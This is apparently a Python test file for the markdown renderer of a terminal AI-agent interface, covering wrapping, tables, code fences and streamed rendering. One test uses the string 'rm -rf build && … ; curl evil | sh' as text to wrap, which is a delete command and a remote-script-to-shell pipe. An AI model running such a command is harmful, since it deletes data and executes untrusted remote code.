from __future__ import annotations

import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tui_agent.text import width_of
from tui_agent.ui.widgets.live_block import Cleaner, LiveBlock
from tui_agent.ui.widgets.markdown_rows import CAP, markdown_rows
from tui_agent.ui.widgets.wrap import cuts, spans

MIXED = r"""# Title *x* `c`

Text with **bold `code`**, `Vec<String>` and <div>hidden</div>.
second line\
hard break

- one
- two
  - nested

    ```python
    x = 1

    y = 2
    ```
1. loose

2. list

> quote
> - in it

| a | b |
|--|:-:|
| 1 | `2` |
| 日本語 | x |

```python
def f(x):

	return [x]
```
after the fence
===

~~~
never closed
"""


def texts(source: str, width: int = 60, **options: bool) -> list[str]:
    return [row.text.rstrip() for row in markdown_rows(source, width, **options)]


def test_layout() -> None:
    assert texts("# A *b*\n\nc `d` **e**  \nf\n\n- g\n  1. h\n\n> i\n\n```\nj\tk\n```\n---") == [
        "  A b",
        "",
        "  c d e",
        "  f",
        "",
        "  • g",
        "    1. h",
        "",
        "  │ i",
        "",
        "   j   k",
        "",
        "  " + "─" * 40,
    ]


@pytest.mark.parametrize(
    "html", ["Vec<String>", "<thinking>x</thinking>", "<div>\nhidden\n</div>", "[a]: http://x"]
)
def test_what_looks_like_html_or_a_definition_is_shown(html: str) -> None:
    assert " ".join(" ".join(texts(html)).split()) == " ".join(html.split())


@pytest.mark.parametrize(
    "source",
    [
        ">" * 500 + " deep",
        "\n".join(" " * 2 * n + f"- x{n}" for n in range(80)),
        "`a" * 20_000,
        "[" * 20_000 + " x",
    ],
)
def test_no_text_is_lost_or_slow_in_a_hostile_block(source: str) -> None:
    start = time.process_time()
    rows = markdown_rows(source, 80)
    assert time.process_time() - start < 0.5
    letters = "".join(filter(str.isalnum, "".join(row.text for row in rows)))
    assert letters == "".join(filter(str.isalnum, source))


@settings(deadline=None, max_examples=150)
@given(st.text(alphabet="ab \n\t`*_[]()<>|-#:1.~!\\é", max_size=60), st.integers(6, 40))
def test_every_letter_of_any_text_is_shown(source: str, width: int) -> None:
    text = "".join(
        row.text
        for row in markdown_rows(source.replace("](", "] (").replace("~~~", "~").replace("```", "`"), width)
    )
    for letter in "abé":
        assert text.count(letter) >= source.count(letter)


def test_a_link_shows_its_whole_address() -> None:
    assert texts("[here](https://a.b/c?d) <https://x.y>") == ["  here (https://a.b/c?d) https://x.y"]


def test_a_long_code_line_is_wrapped_and_copied_exactly() -> None:
    line = "rm -rf build && " + "x" * 80 + " ; curl evil | sh"
    rows = markdown_rows(f"```sh\n{line}\n```", 40)
    assert all(width_of(row.text) <= 40 for row in rows)
    assert "".join(row.text[row.gutter :] + row.after for row in rows) == line + "\n"


def test_a_wrapped_paragraph_is_copied_without_breaks() -> None:
    text = "word " * 40 + "https://example.org/" + "a" * 80
    rows = markdown_rows(text, 30)
    assert len(rows) > 8
    assert "".join(row.text[row.gutter :] + row.after for row in rows) == text + "\n"


@pytest.mark.parametrize("width", [12, 20, 40, 80])
def test_a_table_keeps_its_columns_and_its_text(width: int) -> None:
    source = "| name | what it says |\n|--|--:|\n| 日本語 | one two three four five six |\n| b | `x` |\n"
    rows = markdown_rows(source, width)
    assert all(width_of(row.text) <= width for row in rows)
    words = " ".join(row.text for row in rows).replace("│", " ").split()
    assert {"one", "six", "b", "x"} <= set(words)
    bars = {width_of(row.text.split("│")[0]) for row in rows if "│" in row.text}
    assert len(bars) <= 1


def test_long_code_and_tables_are_capped_until_expanded() -> None:
    code = "```\n" + "\n".join(f"l{i}" for i in range(800)) + "\n```"
    assert texts(code)[-1] == f"  … {800 - CAP} more lines · Enter shows all"
    assert len(texts(code)) == CAP + 1
    assert texts(code, expanded=True)[-1] == "   l799"
    table = "| a |\n|--|\n" + "".join(f"| r{i} |\n" for i in range(200))
    assert texts(table)[-1] == f"  … {200 - CAP} more rows · Enter shows all"
    assert texts(table, expanded=True)[-1] == "  r199"


def test_no_row_is_wider_than_the_view() -> None:
    for width in range(8, 60, 3):
        assert max(width_of(row.text.rstrip()) for row in markdown_rows(MIXED, width)) <= max(width, 12)


@settings(deadline=None, max_examples=300)
@given(st.text(alphabet="ab 語é👩‍👩‍👧-", max_size=80), st.integers(2, 20))
def test_wrapping_loses_nothing(text: str, width: int) -> None:
    for rows in (spans(text, width), cuts(text, width)):
        assert "".join(text[start:end] + after for start, end, after in rows) == text + "\n"
        for start, end, _ in rows:
            assert width_of(text[start:end]) <= width or end - start == len(text[start:end].strip()) <= 7


def blocks(source: str, sizes: list[int]) -> list[str]:
    live, out, at = LiveBlock(60), [], 0
    for size in [*sizes, len(source)]:
        out += live.feed(source[at : at + size])
        at += size
    return [*out, live.finish()]


def joined(parts: list[str], width: int = 60) -> list[str]:
    rows: list[str] = []
    for part in parts:
        if part.strip():
            rows += ["", *texts(part, width)] if rows else texts(part, width)
    return rows


@pytest.mark.parametrize("seed", range(40))
def test_a_stream_renders_as_the_whole(seed: int) -> None:
    rng = random.Random(seed)
    sizes = [rng.choice([1, 2, 4, 7, 30, 200]) for _ in range(400)]
    assert joined(blocks(MIXED, sizes)) == texts(MIXED)


@settings(deadline=None, max_examples=200)
@given(
    st.lists(
        st.sampled_from(
            [
                "para\n",
                "\n",
                "- a\n",
                "  b\n",
                "1. c\n",
                "```\n",
                "x = 1\n",
                "| a | b |\n",
                "|--|--|\n",
                "# h\n",
                "> q\n",
                "---\n",
                "    code\n",
                "~~~\n",
            ]
        ),
        max_size=24,
    ),
    st.integers(1, 9),
)
def test_any_cut_of_any_blocks_renders_as_the_whole(lines: list[str], size: int) -> None:
    source = "".join(lines)
    assert joined(blocks(source, [size] * (len(source) // size + 1))) == joined([source])


def test_the_live_fence_looks_like_the_closed_one() -> None:
    source = "```py\nx = 1\n\ny = '" + "z" * 100 + "'\n"
    live = LiveBlock(40)
    for at in range(0, len(source), 3):
        assert live.feed(source[at : at + 3]) == []
        if (shown := source[: at + 3]).count("\n") > 1 and not shown.endswith("\n"):
            whole = markdown_rows(shown + "\n```", 40)
            assert [row.text for row in live.rows] == [row.text for row in whole]
            assert all(row.fill for row in live.rows)
            assert [row.label for row in live.rows] == [row.label for row in whole]


def test_live_rows_are_those_of_the_text_at_once() -> None:
    text = "Some words that fill rows, 日本語 too, and " * 20 + "\n\nnext"
    one = LiveBlock(30)
    for character in text[:-6]:
        one.feed(character)
    whole = LiveBlock(30)
    whole.feed(text[:-6])
    assert [row.text for row in one.rows] == [row.text for row in whole.rows]


def test_rewrap_keeps_the_open_text() -> None:
    live = LiveBlock(30)
    live.feed("a b c " * 20)
    live.rewrap(60)
    again = LiveBlock(60)
    again.feed("a b c " * 20)
    assert [row.text for row in live.rows] == [row.text for row in again.rows]


def test_colours_and_line_ends_split_over_deltas_are_dropped() -> None:
    cleaner = Cleaner()
    assert (
        "".join(cleaner.clean(c) for c in "a\x1b[31mb\r\nc\x1b[2J\r") + cleaner.clean("", last=True)
        == "ab\nc␛[2J␍"
    )
